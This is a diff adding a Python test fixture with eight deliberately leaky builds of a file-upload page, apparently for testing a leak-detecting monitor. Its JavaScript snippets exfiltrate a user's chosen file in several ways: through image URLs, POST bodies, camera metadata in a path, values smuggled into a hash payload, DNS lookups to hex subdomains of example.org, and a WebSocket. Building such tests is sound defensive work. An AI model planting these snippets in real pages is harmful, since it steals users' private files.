@@ -1,0 +1,107 @@
+"""Eight builds of the page that leak on purpose, to try the watch by.
+
+Each is the product's own page with a few lines of script added; `secret` is the file
+that was chosen first, of which it gives something away.
+"""
+
+from dataclasses import dataclass
+
+# Runs before the page's own listener, which lets go of the files.
+_WHEN_CHOSEN = """
+globalThis.leaked = false;
+window.addEventListener("change", async (event) => {
+  const secret = event.target.files?.[0];
+  if (!secret) return;
+  const text = async () => new Uint8Array(await secret.arrayBuffer());
+  const inBase64 = async (from, to) =>
+    btoa(String.fromCharCode(...(await text()).subarray(from, to)));
+  const drawn = async (width, height) => {
+    const bitmap = await createImageBitmap(secret, { colorSpaceConversion: "none" });
+    const canvas = document.createElement("canvas");
+    canvas.width = width || bitmap.width;
+    canvas.height = height || bitmap.height;
+    const context = canvas.getContext("2d");
+    context.drawImage(bitmap, 0, 0, canvas.width, canvas.height);
+    return { canvas, context };
+  };
+  try { %s } catch (error) { console.log(String(error)); }
+  globalThis.leaked = true;
+}, true);
+"""
+
+
+@dataclass(frozen=True)
+class Leak:
+    """Lines to run when a file was chosen; `carries` says if they hold its own bytes.
+
+    A thumbnail does not: its pixels are others. It is noticed as something that should
+    not have been sent.
+    """
+
+    name: str
+    lines: str
+    carries: bool = True
+    replaces: tuple[str, str, str] = ("", "", "")
+
+    @property
+    def script(self) -> str:
+        return _WHEN_CHOSEN % self.lines
+
+
+LEAKS = (
+    Leak(
+        "its name, in the address of a picture",
+        "const pixel = new Image(); pixel.src = '/pixel.gif?q=' +"
+        " encodeURIComponent(secret.name); await pixel.decode().catch(() => {});",
+    ),
+    Leak(
+        "its bytes, in base64, posted to the right address",
+        "await fetch('/take-it-down/hashes',"
+        " { method: 'POST', body: await inBase64(40, 900) });",
+    ),
+    Leak(
+        "its pixels, posted as they are",
+        "const { canvas, context } = await drawn();"
+        " await fetch('/x', { method: 'POST', body:"
+        " context.getImageData(0, 0, canvas.width, 3).data });",
+    ),
+    Leak(
+        "a thumbnail, as a picture in a text",
+        "const { canvas } = await drawn(16, 16);"
+        " await fetch('/x', { method: 'POST', body: canvas.toDataURL('image/jpeg') });",
+        carries=False,
+    ),
+    Leak(
+        "what the camera wrote into it, in an address",
+        "const all = new TextDecoder('latin1').decode(await text());"
+        " const at = all.indexOf('camera of');"
+        " await fetch('/x/' + encodeURIComponent(all.slice(at, at + 30)));",
+    ),
+    Leak(
+        "its pixels, among the hashes",
+        "const { context } = await drawn();"
+        " const some = context.getImageData(8, 5, 8, 1).data;"
+        " globalThis.stolen = Array.from(some,"
+        " (byte) => byte.toString(16).padStart(2, '0')).join('');",
+        replaces=(
+            "sending.js",
+            "quality: String(quality), pdq }",
+            "quality: String(quality), pdq: [...pdq.slice(0, 9), globalThis.stolen] }",
+        ),
+    ),
+    Leak(
+        "its name, asked of the name server",
+        "const hex = Array.from(new TextEncoder().encode(secret.name.slice(0, 24)),"
+        " (byte) => byte.toString(16).padStart(2, '0')).join('');"
+        " await fetch(`http://${hex}.example.org:8080/`, { mode: 'no-cors' })"
+        ".catch(() => {});",
+    ),
+    Leak(
+        "its bytes, by a web socket",
+        "const socket = new WebSocket('ws://localhost:8080/x');"
+        " const bytes = await text(); const wait = (go) => setTimeout(go, 10);"
+        " await new Promise((go) => { socket.onopen = go; socket.onerror = go; });"
+        " socket.send(bytes.subarray(50, 2000));"
+        " while (socket.bufferedAmount) await new Promise(wait);",
+    ),
+)
